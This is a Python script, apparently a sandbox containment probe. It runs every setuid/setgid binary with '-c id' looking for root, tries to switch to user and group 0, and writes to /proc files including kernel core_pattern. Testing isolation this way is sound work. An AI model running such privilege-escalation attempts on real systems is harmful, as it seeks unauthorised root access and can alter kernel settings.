# tries: become another user with every program that has that right, and by call
# earns: nothing
import os
import stat
import subprocess

for folder in ("/usr/bin", "/usr/sbin", "/usr/lib"):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        try:
            status = os.lstat(path)
        except OSError:
            continue
        if stat.S_ISREG(status.st_mode) and status.st_mode & (stat.S_ISUID | stat.S_ISGID):
            try:
                ran = subprocess.run(
                    [path, "-c", "id"], capture_output=True, text=True, timeout=2, input=""
                )
            except (OSError, subprocess.TimeoutExpired):
                continue
            if "uid=0" in ran.stdout:
                print("TAKEN:", path)
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        change()
        print("TAKEN: another user's number")
    except OSError:
        pass
for path in ("/proc/self/uid_map", "/proc/self/oom_score_adj", "/proc/sys/kernel/core_pattern"):
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "0 0 1")
        print("TAKEN:", path)
    except OSError:
        pass
